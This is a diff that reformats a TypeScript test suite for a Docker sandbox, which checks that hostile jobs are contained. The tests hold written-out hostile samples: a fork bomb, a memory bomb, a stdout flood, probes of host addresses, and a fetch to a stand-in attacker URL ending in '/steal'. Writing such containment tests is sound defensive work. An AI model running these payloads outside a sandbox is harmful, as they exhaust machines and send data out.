@@ -2,7 +2,7 @@
  * Containment, against the real Docker engine: each hostile job is stopped by the
  * sandbox, says what stopped it, leaves the host alone and leaves no container behind.
  */
-import { after, before, describe, it } from 'node:test';
+
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
@@ -10,12 +10,13 @@ import fs from 'node:fs';
 import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
 import type Docker from 'dockerode';
-import { config } from '../../services/config.ts';
 import { dockerClient } from '../../infra/docker.ts';
 import { ensureSandboxImage } from '../../infra/sandbox-image.ts';
-import { createSandbox, reapOrphans, type Sandbox, type SandboxJob, type SandboxResult } from '../../services/sandbox/index.ts';
+import { config } from '../../services/config.ts';
 import { LABEL_OWNER, LABEL_SANDBOX, OWNER } from '../../services/sandbox/container.ts';
+import { createSandbox, reapOrphans, type Sandbox, type SandboxJob, type SandboxResult } from '../../services/sandbox/index.ts';
 
 const cfg = config();
 let docker: Docker;
@@ -27,17 +28,30 @@ const canaryFile = path.join(os.tmpdir(), `forge-canary-${randomBytes(4).toStrin
 
 /** Runs a script with `node -e` inside the sandbox. */
 function exec(script: string, limits: SandboxJob['limits'] = {}): Promise<SandboxResult> {
-  return sandbox.runJob({ mode: 'exec', files: {}, command: ['node', '-e', script], limits: { timeoutMs: 5_000, ...limits } }).then(remember);
+  return sandbox
+    .runJob({ mode: 'exec', files: {}, command: ['node', '-e', script], limits: { timeoutMs: 5_000, ...limits } })
+    .then(remember);
 }
 
 /** A tool with hand-written schemas (no zod to load): `body` is run()'s body, with input and ctx in scope. */
-function callTool(body: string, opts: { limits?: SandboxJob['limits']; permissions?: SandboxJob['permissions']; env?: Record<string, string>; input?: unknown } = {}): Promise<SandboxResult> {
+function callTool(
+  body: string,
+  opts: { limits?: SandboxJob['limits']; permissions?: SandboxJob['permissions']; env?: Record<string, string>; input?: unknown } = {},
+): Promise<SandboxResult> {
   const tool = `
     const any = { safeParse: (v) => ({ success: true, data: v }) };
     export const manifest = { name: 'hostile', description: 'hostile tool', permissions: { network: [], env: [] }, input: any, output: any };
     export async function run(input, ctx) { ${body} }`;
   return sandbox
-    .runJob({ mode: 'call', files: { 'tool.mjs': tool }, entry: 'tool.mjs', input: opts.input ?? {}, env: opts.env, permissions: opts.permissions, limits: { timeoutMs: 5_000, ...opts.limits } })
+    .runJob({
+      mode: 'call',
+      files: { 'tool.mjs': tool },
+      entry: 'tool.mjs',
+      input: opts.input ?? {},
+      env: opts.env,
+      permissions: opts.permissions,
+      limits: { timeoutMs: 5_000, ...opts.limits },
+    })
     .then(remember);
 }
 
@@ -104,10 +118,13 @@ after(async () => {
 
 describe('resource limits', { concurrency: 2 }, () => {
   it('stops a fork bomb at the pids limit', async () => {
-    const r = await exec(`
+    const r = await exec(
+      `
       const { spawn } = require('child_process');
       const go = () => { try { spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' }).on('error', (e) => console.error('spawn', e.code)); } catch (e) { console.error('spawn', e.code); } };
-      setInterval(() => { for (let i = 0; i < 5; i++) go(); }, 20);`, { timeoutMs: 2_500 });
+      setInterval(() => { for (let i = 0; i < 5; i++) go(); }, 20);`,
+      { timeoutMs: 2_500 },
+    );
     assert.equal(r.ok, false);
     assert.equal(r.killedBy, 'pids', r.reason);
     assert.match(r.reason ?? '', /limit of 64 processes/);
@@ -115,7 +132,9 @@ describe('resource limits', { concurrency: 2 }, () => {
   });
 
   it('kills a memory bomb at the memory limit (off-heap buffers in the tool itself)', async () => {
-    const r = await callTool(`const keep = []; for (;;) { keep.push(Buffer.alloc(8 << 20, 1)); await new Promise((r) => setImmediate(r)); }`);
+    const r = await callTool(
+      `const keep = []; for (;;) { keep.push(Buffer.alloc(8 << 20, 1)); await new Promise((r) => setImmediate(r)); }`,
+    );
     assert.equal(r.ok, false);
     assert.equal(r.killedBy, 'memory', r.reason);
     assert.match(r.reason ?? '', /128 MiB memory limit/);
@@ -143,7 +162,10 @@ describe('resource limits', { concurrency: 2 }, () => {
   });
 
   it('truncates and kills a stdout flood at the output limit', async () => {
-    const r = await exec(`const s = 'x'.repeat(65536); const w = () => { while (process.stdout.write(s)); process.stdout.once('drain', w); }; w();`, { outputBytes: 256 * 1024 });
+    const r = await exec(
+      `const s = 'x'.repeat(65536); const w = () => { while (process.stdout.write(s)); process.stdout.once('drain', w); }; w();`,
+      { outputBytes: 256 * 1024 },
+    );
     assert.equal(r.killedBy, 'output', r.reason);
     assert.equal(r.truncated, true);
     assert.ok(r.stdout.length + r.stderr.length <= 256 * 1024, `kept at most the limit (kept ${r.stdout.length})`);
@@ -220,7 +242,14 @@ describe('network', { concurrency: 2 }, () => {
     });
     await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
     const port = (server.address() as net.AddressInfo).port;
-    const hosts = ['127.0.0.1', '172.17.0.1', ...Object.values(os.networkInterfaces()).flat().filter((i) => i?.family === 'IPv4').map((i) => i!.address)];
+    const hosts = [
+      '127.0.0.1',
+      '172.17.0.1',
+      ...Object.values(os.networkInterfaces())
+        .flat()
+        .filter((i) => i?.family === 'IPv4')
+        .map((i) => i!.address),
+    ];
     try {
       const r = await exec(`
         const net = require('net');
@@ -255,7 +284,9 @@ describe('network', { concurrency: 2 }, () => {
   });
 
   it('refuses ctx.fetch to an undeclared domain, naming it and the declared list', async () => {
-    const r = await callTool(`return await ctx.fetch('https://evil.example.net/steal');`, { permissions: { network: ['api.example.com', '*.good.org'], env: [] } });
+    const r = await callTool(`return await ctx.fetch('https://evil.example.net/steal');`, {
+      permissions: { network: ['api.example.com', '*.good.org'], env: [] },
+    });
     assert.equal(r.ok, false);
     assert.equal(r.error?.code, 'PERMISSION_DENIED');
     assert.match(r.reason ?? '', /evil\.example\.net.*api\.example\.com, \*\.good\.org/);
